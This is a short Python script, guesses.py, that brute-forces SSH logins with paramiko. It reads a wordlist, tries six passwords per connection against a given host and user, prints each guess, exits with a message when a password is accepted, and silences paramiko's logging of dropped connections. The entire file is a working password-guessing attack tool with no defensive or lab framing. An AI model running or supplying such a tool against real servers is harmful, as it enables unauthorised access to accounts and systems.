"""guesses.py HOST PORT USER WORDS: tries each password of a file once, six on a connection, and prints each before it is sent."""

import logging
import sys

import paramiko

PER_CONNECTION = 6


def guess(host, port, user, words):
    transport = paramiko.Transport((host, port))
    try:
        transport.start_client(timeout=30)
        for word in words:
            print(word, flush=True)
            try:
                transport.auth_password(user, word, fallback=False)
                sys.exit(f"{word} was let in")
            except paramiko.AuthenticationException:
                pass
            except paramiko.SSHException:
                # the server ends the connection with its answer to the last one
                if word != words[-1]:
                    raise
    finally:
        transport.close()


def main(host, port, user, file):
    # how connections end is no news
    logging.getLogger("paramiko").setLevel(logging.CRITICAL)
    with open(file, encoding="ascii") as lines:
        words = lines.read().split()
    for first in range(0, len(words), PER_CONNECTION):
        guess(host, int(port), user, words[first : first + PER_CONNECTION])


main(*sys.argv[1:])
